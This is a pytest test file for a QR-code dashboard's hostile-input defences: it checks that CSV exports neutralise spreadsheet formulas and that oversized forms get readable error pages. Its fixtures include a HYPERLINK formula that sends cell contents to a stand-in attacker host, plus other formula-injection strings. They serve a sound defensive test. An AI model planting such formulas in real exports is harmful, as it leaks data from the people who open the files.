"""Hostile input on the dashboard: downloads hold no spreadsheet formulas, oversized forms answer readably."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from openqr.models import utcnow
from openqr.scans.classify import ScanEvent
from openqr.scans.store import store_scans
from openqr.web.spreadsheet import FORMULA_STARTS, csv_text, safe_cell
from tests.conftest import fresh_app, sign_in
from tests.dashboard.test_dashboard import HX, make_code
from tests.support.htmlparse import Page

FORMULA_LABEL = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
FORMULA_TAGS = ["@sum(a1)", "+1+1", "-2+3"]


@pytest.fixture
def web(web_app):
    client = web_app.test_client()
    sign_in(client, web_app)
    return client


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Poster = spring", "Poster = spring"),
        ("https://example.com/a=1", "https://example.com/a=1"),
        ("", ""),
        (None, ""),
        (12, 12),
        (0, 0),
    ],
)
def test_a_cell_that_would_run_as_a_formula_gets_a_quote(value, cell):
    assert safe_cell(value) == cell


def test_csv_text_quotes_formula_cells_and_keeps_commas_inside_one_cell():
    rows = list(csv.reader(io.StringIO(csv_text([["=1,2", "a", 3]]))))
    assert rows == [["'=1,2", "a", "3"]]


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def _store_scan(app, code_id: str, referrer: str) -> None:
    with app.app_context():
        assert store_scans([ScanEvent(code_id, utcnow(), "GB", "mobile", referrer)]) == 1


def test_every_csv_download_neutralises_formula_cells(web, web_app):
    code_id = make_code(web_app, label=FORMULA_LABEL, tags=FORMULA_TAGS)
    _store_scan(web_app, code_id, "-evil.example")  # as a database restored from elsewhere might hold
    overview = list(csv.reader(io.StringIO(web.get("/overview/scans.csv").text)))
    code_csv = list(csv.reader(io.StringIO(web.get(f"/codes/{code_id}/scans.csv").text)))
    archive = zipfile.ZipFile(io.BytesIO(web.get(f"/codes/export.zip?ids={code_id}").data))
    listing = list(csv.reader(io.StringIO(archive.read("codes.csv").decode())))
    for rows in (overview, code_csv, listing):
        assert _formula_cells(rows) == []
    assert next(row[:3:2] for row in overview if row[0] == "code") == ["code", "'" + FORMULA_LABEL]
    assert next(row[:2] for row in code_csv if row[0] == "referrer") == ["referrer", "'-evil.example"]
    assert listing[1][3:] == ["'" + FORMULA_LABEL, listing[1][4], "'" + "|".join(FORMULA_TAGS)]


def test_a_bulk_cell_over_the_csv_limit_is_explained(web):
    text = (
        'https://example.com/a,"' + "x" * 140_000 + "\nhttps://example.com/b\n"
    )  # the quote is never closed
    response = web.post("/codes/bulk", data={"lines": text, "action": "preview"})
    assert response.status_code == 400
    page = Page(response.text)
    assert "Line 1 has a cell longer than 131,072 characters; is a quotation mark left open?" in page.text
    assert page.has("textarea", name="lines")  # the form is there to try again


def test_an_uploaded_csv_with_an_oversized_cell_is_explained(web):
    upload = (
        io.BytesIO(b"https://example.com/a\n" + b'https://example.com/b,"' + b"y" * 200_000),
        "codes.csv",
    )
    response = web.post(
        "/codes/bulk", data={"file": upload, "action": "preview"}, content_type="multipart/form-data"
    )
    assert response.status_code == 400
    assert "Line 2 has a cell longer than" in Page(response.text).text


@pytest.mark.parametrize("htmx", [False, True])
def test_a_bulk_paste_over_the_form_limit_shows_the_form_again_with_the_reason(web, htmx):
    lines = "https://example.com/a\n" * 30_000  # 660 KB in one field of a multipart form
    response = web.post(
        "/codes/bulk",
        data={"lines": lines, "action": "preview"},
        content_type="multipart/form-data",
        headers=HX if htmx else {},
    )
    assert response.status_code == 413
    page = Page(response.text)
    assert "That is more than this server accepts at once (1 MB in all, 500 KB in one field)" in page.text
    assert page.has("textarea", name="lines")
    assert page.has("html") is not htmx  # the fragment for HTMX, swapped in place; the page otherwise


FIELDS = (
    "destination label slug tags name url events tz next dark light ecc margin size rules split "
    "schedule expires_at max_scans fallback_url utm_source utm_campaign lines action"
).split()
FORMS = [
    "/codes",
    "/codes/{id}/edit",
    "/codes/{id}/style",
    "/codes/{id}/smart",
    "/codes/bulk",
    "/folders",
    "/keys",
    "/webhooks",
    "/settings/timezone",
]


@pytest.mark.parametrize("path", FORMS)
def test_a_huge_paste_in_every_field_of_every_form_is_refused_readably(web, web_app, path):
    """About 40 KB in each field (under the body limit in all): a page to read, never a 500."""
    code_id = make_code(web_app)
    data = {field: ("https://example.com/" + "x" * 40_000) for field in FIELDS}
    response = web.post(path.format(id=code_id), data=data, headers=HX)
    assert response.status_code < 500
    assert response.mimetype == "text/html" and Page(response.text).text.strip()


def test_a_dashboard_form_over_the_body_limit_gets_the_error_page(web):
    response = web.post("/codes", data={"destination": "https://example.com/", "label": "x" * 1_100_000})
    assert response.status_code == 413
    page = Page(response.text)
    assert "That is more than this server accepts at once" in page.text and "Nothing was saved" in page.text
    assert page.has("a", href="/codes")  # a way back


def test_the_sign_in_form_over_the_body_limit_gets_a_plain_page(tmp_path):
    app = fresh_app(tmp_path)
    response = app.test_client().post("/login", data={"email": "x" * 1_100_000})
    assert response.status_code == 413
    assert response.headers["Content-Type"] == "text/html; charset=utf-8"
    assert "That is more than this server accepts at once" in Page(response.text).text


def test_the_api_still_answers_a_body_over_the_limit_as_json(api):
    response = api.post("/v1/dynamic", json={"destination": "https://example.com/", "label": "x" * 1_100_000})
    assert response.status_code == 413 and response.get_json()["error"] == "body_too_large"
